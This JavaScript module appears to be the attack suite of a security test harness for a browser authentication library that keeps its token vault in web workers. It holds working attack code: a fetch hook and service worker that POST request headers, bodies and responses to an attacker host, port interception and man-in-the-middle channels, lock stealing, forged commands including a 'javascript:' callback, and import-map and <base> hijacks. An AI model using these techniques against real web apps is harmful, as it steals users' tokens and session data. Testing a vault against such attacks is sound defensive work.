// The worker that the vault lives in, and other workers.
import { pristine, soon, wait } from '../kit.mjs';

const FILES = '/strongroom/';

/** The text of a worker script that spies on `url`, which it loads. */
const spying = (url, attacker) => {
  const spy = `
    const send = (what) => real('${attacker}', { method: 'POST', body: String(what) });
    const real = fetch;
    globalThis.fetch = async (...args) => {
      const request = args[0] instanceof Request ? args[0].clone() : new Request(...args);
      send([...request.headers]);
      send(await request.clone().text());
      const response = await real(...args);
      response.clone().text().then(send);
      return response;
    };`;
  const first = URL.createObjectURL(new Blob([spy], { type: 'text/javascript' }));
  return URL.createObjectURL(new Blob([`import '${first}';\nimport '${url}';`], { type: 'text/javascript' }));
};

/** Has workers of this kind load a script of the attacker's around their own. */
function replaceWorker(name, { hooks, config, record }) {
  const Original = window[name];
  hooks.replace(window, name, {
    writable: true,
    value: class extends Original {
      constructor(url, options) {
        super(spying(String(url), config.attacker), options);
        record(this);
      }
    },
  });
}

/** What the app tells its vault when it opens it, taken off a session of the attacker's own that is configured alike. */
async function openOptions({ options }) {
  const { createSession } = await import(`${FILES}index.js`);
  const { postMessage } = MessagePort.prototype;
  let open;
  MessagePort.prototype.postMessage = function (message, ...rest) {
    open ??= message?.[0]?.command?.command?.open;
    return Reflect.apply(postMessage, this, [message, ...rest]);
  };
  const own = createSession({ ...options, silent: { ...options.silent, onLoad: false }, vault: 'worker' });
  await soon(() => open, 3000);
  MessagePort.prototype.postMessage = postMessage;
  own.close();
  return { ...open, silent: { ...open.silent, onLoad: true } };
}

/** The name of the app's shared worker, taken off a session of the attacker's own that is configured alike. */
async function sharedName(options, undo) {
  const { createSession } = await import(`${FILES}index.js`);
  const Original = window.SharedWorker;
  let name;
  window.SharedWorker = class {
    constructor(_url, given) {
      name = given.name;
      throw new Error('that is all');
    }
  };
  const own = createSession({ ...options, vault: { placement: 'shared', fallback: false } });
  undo(() => own.close());
  await soon(() => name, 500);
  window.SharedWorker = Original;
  return name;
}

/** A port of the attacker's own to the shared worker called `name`; `wasm` is what it says the vault is. */
async function connect(name, { record, undo, wasm = new URL(`${FILES}strongroom_bg.wasm`, location.href).href }) {
  const url = new URL(`${FILES}shared.js`, location.href);
  const worker = new SharedWorker(url, { type: 'module', name, extendedLifetime: true });
  undo(() => worker.port.close());
  const { port1, port2 } = new MessageChannel();
  const heard = [];
  const hear = ({ data }) => {
    record(data);
    heard.push(data);
  };
  port1.onmessage = hear;
  worker.port.onmessage = hear;
  worker.onerror = record;
  worker.port.postMessage({ wasm, life: 'never held' }, [port2]);
  await soon(() => heard.length, 3000);
  let last = 0;
  return {
    heard,
    port: port1,
    worker,
    post: (message) => port1.postMessage(message),
    async command(command, attachment) {
      const id = ++last;
      port1.postMessage(
        attachment === undefined ? [{ command: { id, command } }] : [{ command: { id, command } }, attachment],
      );
      return soon(() => heard.find((data) => data[0]?.reply?.id === id), 3000);
    },
  };
}

/** Messages that the vault never gets from its own page. */
const forged = () => [
  'open',
  [],
  [null],
  [{}],
  [{ command: { id: 1, command: 'dump' } }],
  [{ command: { id: 1, command: { tokens: {} } } }],
  [{ command: { id: 4294967295, command: 'close' } }],
  [{ cancel: { id: 1 } }],
  ...[1, 2, 3, 4, 5].flatMap((id) => [
    [{ answer: { id, answer: 'done' } }],
    [{ answer: { id, answer: 'gone' } }],
    [{ answer: { id, answer: { url: `${location.origin}/?code=forged&state=forged` } } }],
    [{ answer: { id, answer: { message: '{"code":"forged","state":"forged"}' } } }],
  ]),
  [{ command: { id: 5, command: { start: { callback: 'javascript:alert(1)' } } } }],
  [{ command: { id: 6, command: { loggedOut: { iss: 'x', sid: 'x' } } } }],
];

const fetchTo = (url) => ({ fetch: { url, method: 'GET', headers: [], init: [], keepalive: false } });

/** The port by which the app talks to its vault, taken when it is next used. */
async function appPort({ hooks, victim }) {
  let port;
  const { postMessage } = MessagePort.prototype;
  hooks.replace(MessagePort.prototype, 'postMessage', {
    writable: true,
    value(...args) {
      if (args[0]?.[0]?.command) port = this;
      return Reflect.apply(postMessage, this, args);
    },
  });
  await victim('post');
  return port;
}

export const workers = [
  {
    id: 'worker-constructor',
    title: 'replaces Worker, and wraps the vault’s script in one of its own',
    when: 'both',
    async run(context) {
      replaceWorker('Worker', context);
      await context.victim();
      await wait(100);
    },
    lost: { before: { worker: 'first' } },
  },
  {
    id: 'shared-worker-constructor',
    title: 'replaces SharedWorker, and wraps the vault’s script in one of its own',
    when: 'both',
    async run(context) {
      replaceWorker('SharedWorker', context);
      await context.victim();
      await wait(100);
    },
    lost: { before: { shared: 'first' } },
  },
  {
    id: 'worker-refused',
    title:
      'makes Worker and SharedWorker fail, so that the vault may fall back into the page, and replaces fetch there',
    when: 'both',
    async run({ hooks, victim, record }) {
      for (const name of ['Worker', 'SharedWorker']) {
        hooks.replace(window, name, {
          writable: true,
          value() {
            throw new Error('no workers today');
          },
        });
      }
      hooks.tap(window, 'fetch', ({ args }) => record(args[0]));
      await victim();
    },
    disturbs: true,
    lost: { after: { closure: 'hooks' }, before: { closure: 'hooks' } },
  },
  {
    id: 'worker-terminate',
    title: 'closes the session, takes hold of its Worker as it is terminated, and talks to it',
    when: 'after',
    async run({ hooks, session, record }) {
      const { terminate } = Worker.prototype;
      hooks.replace(Worker.prototype, 'terminate', {
        writable: true,
        value() {
          this.onmessage = ({ data }) => record(data);
          const { port1, port2 } = new MessageChannel();
          port1.onmessage = ({ data }) => record(data);
          this.postMessage(new URL(`${FILES}strongroom_bg.wasm`, location.href).href, [port2]);
          for (const message of forged()) port1.postMessage(message);
          pristine.setTimeout(() => Reflect.apply(terminate, this, []), 400);
        },
      });
      (await session()).close();
      await wait(400);
    },
  },
  {
    id: 'worker-own',
    title: 'starts workers of its own from the package’s scripts, and asks them for the session',
    when: 'after',
    async run({ record, undo, victim }) {
      for (const file of ['worker.js', 'vault.js', 'shared.js']) {
        const worker = new Worker(FILES + file, { type: 'module', name: 'strongroom' });
        undo(() => worker.terminate());
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = worker.onmessage = ({ data }) => record(data);
        worker.postMessage(new URL(`${FILES}strongroom_bg.wasm`, location.href).href, [port2]);
        for (const message of forged()) port1.postMessage(message);
      }
      await victim();
      await wait(200);
    },
  },
  {
    id: 'worker-spy',
    title: 'starts a worker of its own that listens to every channel and reads every database',
    when: 'both',
    async run({ record, undo, victim }) {
      const spy = () => {
        const heard = ['strongroom', 'strongroom:callback', 'strongroom:logout'].map(
          (name) => new BroadcastChannel(name),
        );
        for (const channel of heard) channel.onmessage = ({ data }) => postMessage(JSON.stringify(data));
        globalThis.onmessage = () => postMessage(JSON.stringify(performance.getEntries()));
        navigator.locks.query().then((locks) => postMessage(JSON.stringify(locks)));
      };
      const url = URL.createObjectURL(new Blob([`(${spy})()`], { type: 'text/javascript' }));
      const worker = new Worker(url);
      undo(() => worker.terminate());
      worker.onmessage = ({ data }) => record(data);
      await victim();
      worker.postMessage('report');
      await wait(100);
    },
  },
  {
    id: 'worker-port',
    title: 'takes the port between page and vault, and sends forged commands, answers and cancellations on it',
    when: 'after',
    async run(context) {
      const { record, config, victim } = context;
      const port = await appPort(context);
      if (!port) return;
      port.addEventListener('message', ({ data }) => record(data));
      for (const message of forged()) port.postMessage(message);
      for (const url of [config.attacker, `${config.api}orders`, `${config.issuer}/me`]) {
        port.postMessage([{ command: { id: 900, command: fetchTo(url) } }]);
      }
      await victim();
      await wait(100);
    },
    disturbs: true,
  },
  {
    id: 'worker-port-reopen',
    title: 'takes the port, opens the session anew on it with its own server among the APIs, and fetches from there',
    when: 'after',
    async run(context) {
      const { record, config } = context;
      const wire = await openOptions(context);
      const port = await appPort(context);
      if (!port) return;
      port.addEventListener('message', ({ data }) => record(data));
      const apis = [...wire.apis, { url: config.attacker, scope: 'read:orders', resource: config.api }];
      port.postMessage([{ command: { id: 900, command: { open: { ...wire, apis } } } }]);
      port.postMessage([{ command: { id: 901, command: fetchTo(config.attacker) } }]);
      await wait(400);
    },
    disturbs: true,
  },
  {
    id: 'worker-port-steal',
    title: 'replaces MessageChannel, so that the vault is given the attacker’s port, and stands in the middle',
    when: 'both',
    async run({ hooks, victim, record }) {
      const Original = MessageChannel;
      hooks.replace(window, 'MessageChannel', {
        writable: true,
        value: class {
          constructor() {
            const [near, far] = [new Original(), new Original()];
            const pass = (from, to) => {
              from.onmessage = ({ data }) => {
                record(data);
                const body = data?.[1];
                const moves = body instanceof ReadableStream || body instanceof ArrayBuffer ? [body] : [];
                to.postMessage(data, moves);
              };
            };
            pass(near.port2, far.port1);
            pass(far.port1, near.port2);
            this.port1 = near.port1;
            this.port2 = far.port2;
          }
        },
      });
      await victim();
    },
  },
  {
    id: 'shared-connect',
    title: 'connects to the app’s SharedWorker by its name, opens the same session, and asks it for everything',
    when: 'after',
    async run(context) {
      const { record, config, victim, undo, options } = context;
      const wire = await openOptions(context);
      const own = await connect(await sharedName(options, undo), { record, undo });
      await own.command({ open: wire });
      for (const command of [
        { start: {} },
        { checkSession: { params: [] } },
        { userinfo: { sources: false } },
        fetchTo(`${config.api}orders`),
        fetchTo(config.attacker),
        fetchTo(`${config.api}redirect?to=${encodeURIComponent(config.attacker)}`),
      ]) {
        own.command(command);
      }
      await victim();
      await wait(200);
    },
    disturbs: true,
  },
  {
    id: 'shared-forged',
    title: 'connects to the app’s SharedWorker and opens a session there with its own server among the APIs',
    when: 'after',
    async run(context) {
      const { record, config, undo, options, victim } = context;
      const wire = await openOptions(context);
      const own = await connect(await sharedName(options, undo), { record, undo });
      const apis = [...wire.apis, { url: config.attacker, scope: 'read:orders', resource: config.api }];
      await own.command({ open: { ...wire, apis } });
      await own.command(fetchTo(config.attacker));
      for (const message of forged()) own.post(message);
      await victim();
    },
  },
  {
    id: 'shared-life',
    title: 'steals the locks by which pages and vault know of each other, and takes the vault’s questions over',
    when: 'after',
    async run(context) {
      const { record, undo, options, victim } = context;
      const wire = await openOptions(context);
      const own = await connect(await sharedName(options, undo), { record, undo });
      await own.command({ open: wire });
      const { held, pending } = await navigator.locks.query();
      record([held, pending]);
      for (const { name } of held) {
        navigator.locks.request(name, { steal: true }, () => wait(300)).catch(() => {});
      }
      await Promise.race([victim('renew'), wait(1500)]);
    },
    disturbs: true,
  },
  {
    id: 'shared-poisoned',
    title: 'opens the SharedWorker of the app’s name first, and says that the vault is a wasm of its own',
    when: 'both',
    async run({ record, undo, options, victim }) {
      const name = await sharedName(options, undo);
      // An empty module.
      const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);
      const wasm = URL.createObjectURL(new Blob([bytes], { type: 'application/wasm' }));
      const own = await connect(name, { record, undo, wasm });
      record(own.heard);
      await victim();
    },
  },
  {
    id: 'service-worker',
    title: 'registers service workers, from scripts of the app’s origin and from blob: and data: URLs',
    when: 'both',
    async run({ record, undo, victim, config }) {
      const spy = `onfetch = (event) => { fetch('${config.attacker}', { method: 'POST', body: JSON.stringify([...event.request.headers]) }); };`;
      const scripts = [
        URL.createObjectURL(new Blob([spy], { type: 'text/javascript' })),
        `data:text/javascript,${encodeURIComponent(spy)}`,
        ...['index.js', 'worker.js', 'shared.js', 'vault.js', 'callback.js'].map((file) => FILES + file),
        '/callback.js',
        '/config.json',
        `/callback.html?${encodeURIComponent(spy)}`,
      ];
      for (const script of scripts) {
        for (const type of ['classic', 'module']) {
          try {
            const registration = await navigator.serviceWorker.register(script, {
              type,
              scope: new URL('.', new URL(script, location.href)).pathname,
            });
            record(registration.scope);
            undo(() => registration.unregister());
            const { port1, port2 } = new MessageChannel();
            port1.onmessage = ({ data }) => record(data);
            registration.installing?.postMessage(`${FILES}strongroom_bg.wasm`, [port2]);
          } catch (error) {
            record(error.message);
          }
        }
      }
      navigator.serviceWorker.onmessage = ({ data }) => record(data);
      await victim();
    },
  },
  {
    id: 'import-vault',
    title: 'imports the package’s own modules, to get at the live vault',
    when: 'after',
    async run({ record, victim }) {
      for (const file of ['index.js', 'vault.js', 'own-worker.js', 'worker.js', 'shared.js', 'callback.js']) {
        try {
          const module = await import(FILES + file);
          record(Object.keys(module));
          if (!module.serve) continue;
          for (const shared of [true, false]) {
            const { port1, port2 } = new MessageChannel();
            port1.onmessage = ({ data }) => record(data);
            await module.serve(port2, `${FILES}strongroom_bg.wasm`, shared);
            for (const message of forged()) port1.postMessage(message);
          }
        } catch (error) {
          record(error);
        }
      }
      await victim();
    },
  },
  {
    id: 'import-maps',
    title: 'maps the package’s scripts to its own by an import map, and by a <base> of its own',
    when: 'both',
    async run({ record, victim, undo, config }) {
      const evil = URL.createObjectURL(new Blob([`throw new Error('mine')`], { type: 'text/javascript' }));
      const map = document.createElement('script');
      map.type = 'importmap';
      const imports = Object.fromEntries(['vault.js', 'worker.js', 'shared.js'].map((file) => [FILES + file, evil]));
      try {
        map.textContent = JSON.stringify({ imports });
        document.head.append(map);
        undo(() => map.remove());
      } catch (error) {
        record(error);
      }
      const base = document.createElement('base');
      base.href = config.attacker;
      document.head.append(base);
      undo(() => base.remove());
      await victim();
    },
    disturbs: true,
  },
];
